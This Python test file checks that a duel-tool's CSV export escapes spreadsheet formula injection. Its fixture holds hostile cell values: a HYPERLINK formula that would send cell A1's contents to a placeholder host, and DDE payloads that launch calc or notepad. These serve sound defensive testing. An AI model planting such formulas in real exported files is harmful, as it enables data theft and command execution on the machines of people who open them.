"""CSV cells that a spreadsheet would run as formulas are written as text (OWASP's rule,
src/duels_tui/outputs/csv_safe.py): the hostile texts are here, in a played session, and the file is
read back with the csv module as a spreadsheet would split it."""

from __future__ import annotations

import csv
import io
import json
import random
from dataclasses import replace

import pytest

from duels_tui.arena.testing import demo_catalog, demo_programme, stream_turn
from duels_tui.arena.votes import VoteCounts
from duels_tui.arena.workshop import Workshop
from duels_tui.outputs.csv_safe import csv_text
from duels_tui.outputs.export import export

HOSTILE = {
    "place": "=HYPERLINK(\"http://example.invalid/?\"&A1;\"clic\")",
    "prompt": "+cmd|' /C calc'!A0",
    "answer_a": "-2+3+cmd|' /C notepad'!A0",
    "answer_b": "@SUM(1+9)*cmd|' /C calc'!A0",
    "title": "\t=1+2",
    "comment": "\r=1+2",
}


@pytest.fixture
def hostile_session(tmp_path):
    from duels_tui.store import Store

    programme = demo_programme(1)
    programme = replace(programme, duels=(replace(programme.duels[0], title=HOSTILE["title"]),))
    store = Store.open(tmp_path / "duels.sqlite3")
    workshop = Workshop.start(programme, demo_catalog(), store, place=HOSTILE["place"], rng=random.Random(3))
    workshop.advance()
    workshop.set_prompt(0, HOSTILE["prompt"])
    stream_turn(workshop, 0, {"A": HOSTILE["answer_a"], "B": HOSTILE["answer_b"]})
    workshop.record_vote(0, VoteCounts(3, 1), comments={"A": "x" + HOSTILE["comment"], "B": "-1"})
    yield store
    store.close()


def _rows(store) -> list[dict[str, str]]:
    out = io.StringIO()
    export(store, "csv", out)
    return list(csv.DictReader(io.StringIO(out.getvalue())))


def test_formula_cells_read_back_as_text(hostile_session):
    (row,) = _rows(hostile_session)
    assert row["session_place"] == "'" + HOSTILE["place"]
    assert row["opening_msg"] == "'" + HOSTILE["prompt"]
    assert row["duel_title"] == "'" + HOSTILE["title"]
    assert row["conv_comments_b"] == "'-1"  # a comment is text, even one that reads as a number
    assert row["conv_comments_a"] == "x" + HOSTILE["comment"]  # no trigger in front: as it is
    # The answers are inside the conversations' JSON, which begins with "[".
    assert json.loads(row["conversation_a"])[1]["content"] == HOSTILE["answer_a"]
    # Numbers are numbers: no apostrophe on the counts.
    assert (row["votes_a"], row["votes_b"], row["votes_total"]) == ("3", "1", "4")
    # No cell of the file begins with a trigger, whatever the column.
    for value in row.values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), value


def test_every_cell_is_quoted(hostile_session):
    """A French spreadsheet splits on `;`: the place above holds one, and must stay one cell."""
    out = io.StringIO()
    export(hostile_session, "csv", out)
    text = out.getvalue()
    assert '&A1;""clic"")' in text  # the `;` sits inside a quoted cell
    again = io.StringIO()
    csv.writer(again, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(csv.reader(io.StringIO(text)))
    assert again.getvalue() == text  # every cell of the file was quoted


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+33 6 12", "'+33 6 12"),
        ("-x", "'-x"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\nx", "'\nx"),
        ("a=b", "a=b"),
        ("'déjà", "'déjà"),
        ("", ""),
        (-3, "-3"),
        (-0.5, "-0.5"),
        (None, ""),
        (True, "true"),
        (["=x"], '["=x"]'),
    ],
)
def test_cell_rule(value, written):
    assert csv_text(value) == written
